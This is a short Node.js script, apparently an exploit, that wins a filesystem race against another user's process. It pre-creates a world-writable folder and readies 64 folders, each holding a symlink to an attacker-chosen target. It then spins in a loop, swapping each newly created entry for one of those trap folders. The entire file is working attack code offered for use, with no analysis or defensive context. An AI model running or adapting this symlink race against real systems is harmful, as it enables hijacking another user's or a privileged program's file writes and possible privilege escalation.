// Makes a folder before anybody else does, and replaces what is made in it for a folder of links, as fast as it can.
// node take-folder.mjs FOLDER TARGET : whatever appears as FOLDER/x becomes a folder in which `3` is a link to TARGET.
import { chmodSync, existsSync, mkdirSync, readdirSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

const [folder, target] = process.argv.slice(2);
mkdirSync(folder);
chmodSync(folder, 0o777);
const traps = `${folder}.traps`;
mkdirSync(traps);
const trap = (n) => join(traps, String(n));
for (let n = 0; n < 64; n++) {
  mkdirSync(trap(n));
  symlinkSync(target, join(trap(n), '3'));
}
process.stdout.write('ready\n');
const taken = new Set();
for (let n = 0; ;) {
  for (const name of readdirSync(folder)) {
    // A folder of another user moves inside of its parent only. Just between the making of a folder and the change of its owner.
    if (name.startsWith('.') || taken.has(name) || n >= 64) continue;
    while (existsSync(join(folder, name)) && !existsSync(join(folder, name, '3')));
    try {
      taken.add(name);
      renameSync(join(folder, name), join(folder, `.aside-${n}`));
      renameSync(trap(n++), join(folder, name));
    } catch {
      // It was faster.
    }
  }
}
